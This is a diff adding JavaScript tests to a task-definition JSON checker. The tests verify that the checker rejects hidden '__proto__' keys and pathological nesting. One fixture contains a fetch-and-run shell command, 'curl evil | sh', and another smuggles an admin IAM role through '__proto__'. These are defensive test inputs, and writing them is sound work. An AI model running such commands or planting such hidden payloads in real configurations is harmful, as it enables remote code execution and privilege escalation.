@@ -347,3 +347,58 @@ describe('invalid task definitions: message and path', () => {
     expect(problems(text)).toEqual([expect.objectContaining({ line, path: ['memory'] })]);
   });
 });
+
+describe('input that would hide what is sent, or break the checker', () => {
+  const valid = {
+    family: 'backend-flask',
+    containerDefinitions: [{ name: 'app', image: 'nginx:1.27', essential: true, memory: 128 }],
+  };
+
+  it('refuses "__proto__" keys, which the preview would not show but the SDK would send', () => {
+    const text = JSON.stringify(valid, null, 2).replace(
+      '"essential": true,',
+      '"essential": true,\n      "__proto__": { "command": ["sh", "-c", "curl evil | sh"] },',
+    );
+    expect(checkTaskDefinitionJson(text)).toEqual({
+      ok: false,
+      problems: [
+        {
+          path: [],
+          line: 8,
+          message:
+            '"__proto__" is not a task definition field: remove it. (JavaScript would hide what it holds from the preview and still send it.)',
+        },
+      ],
+    });
+  });
+
+  it('refuses a top-level "__proto__" too', () => {
+    const result = checkTaskDefinitionJson(
+      `{"__proto__": {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"}, ${JSON.stringify(valid).slice(1)}`,
+    );
+    expect(result.ok).toBe(false);
+  });
+
+  it('refuses 10,000 levels of nesting with a message, not a stack overflow', () => {
+    const text = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
+    expect(checkTaskDefinitionJson(text)).toEqual({
+      ok: false,
+      problems: [
+        {
+          path: [],
+          line: 1,
+          message:
+            'The JSON is nested 32+ levels deep at line 1; a task definition is at most a few levels deep. Paste the task definition itself.',
+        },
+      ],
+    });
+  });
+
+  it('counts brackets inside strings as text', () => {
+    const text = JSON.stringify({ ...valid, family: 'backend-flask' }).replace(
+      '"image":"nginx:1.27"',
+      `"image":"nginx:1.27","command":["${'['.repeat(100)}\\"${'{'.repeat(100)}"]`,
+    );
+    expect(checkTaskDefinitionJson(text).ok).toBe(true);
+  });
+});
